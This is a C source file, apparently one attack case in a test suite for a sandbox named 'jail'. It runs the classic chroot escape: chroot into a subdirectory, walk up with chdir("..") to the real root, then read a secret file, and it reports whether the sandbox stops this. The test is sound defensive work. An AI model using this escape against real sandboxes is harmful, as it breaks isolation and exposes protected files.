/*
 * chroot-escape — class 2: the classic way out of a chroot.
 *
 *   chroot-escape DIR SECRET
 *
 * In the writable DIR: mkdir a subdirectory, chroot into it (cwd stays
 * outside), chdir("..") until the real root, chroot(".") there, and read
 * SECRET by its host path.  jail's baseline refuses chroot with EPERM
 * (and unshare, which an unprivileged attacker would use to get
 * CAP_SYS_CHROOT); and even a successful chroot would only walk up to the
 * jail's own root, which holds no SECRET.
 */
#include <sys/stat.h>

#include "attack.h"

int main(int argc, char **argv)
{
	char sub[4096];
	int r, fd;

	attack_name = "chroot-escape";
	if (argc != 3)
		usage("DIR SECRET");
	escalate();
	snprintf(sub, sizeof(sub), "%s/chroot-escape.%d", argv[1], (int)getpid());
	if (mkdir(sub, 0755) < 0 && errno != EEXIST) {
		say("mkdir %s: %s", sub, strerror(errno));
		return CANNOT;
	}
	if (chdir(argv[1]) < 0) {
		say("chdir %s: %s", argv[1], strerror(errno));
		return CANNOT;
	}
	r = verdict("chroot", chroot(sub), EPERM);
	rmdir(sub);
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	if (r == ESCAPED && chroot(".") < 0)
		say("chroot .: %s", strerror(errno));
	fd = open(argv[2], O_RDONLY | O_CLOEXEC);
	if (fd >= 0 && has_secret(fd)) {
		say("read %s after the walk up: ESCAPED", argv[2]);
		return ESCAPED;
	}
	say("%s after the walk up: %s", argv[2], fd < 0 ? strerror(errno) : "not the secret");
	return r == ESCAPED ? STOPPED : r;
}
